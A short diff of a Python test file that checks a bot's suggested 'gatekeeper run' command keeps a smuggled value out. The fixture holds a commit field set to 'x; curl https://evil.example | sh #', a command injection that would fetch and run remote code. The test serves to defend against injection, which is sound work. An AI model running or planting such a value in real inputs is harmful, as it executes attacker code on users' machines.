@@ -218,7 +218,8 @@ def test_a_command_to_paste_is_only_ever_gatekeepers(lane: Lane) -> None:
     run["base"]["commit"] = "x; curl https://evil.example | sh #"
     files["run.json"] = json.dumps(run).encode()
     lane.reported(files)
-    assert "gatekeeper run --base 'x; curl https://evil.example | sh #' --head" in lane.comment()
+    assert f"gatekeeper run --base {lane.base} --head" in lane.comment()
+    assert "evil" not in lane.comment()
 
 
 def test_a_zip_that_unfolds_without_end_is_stopped(
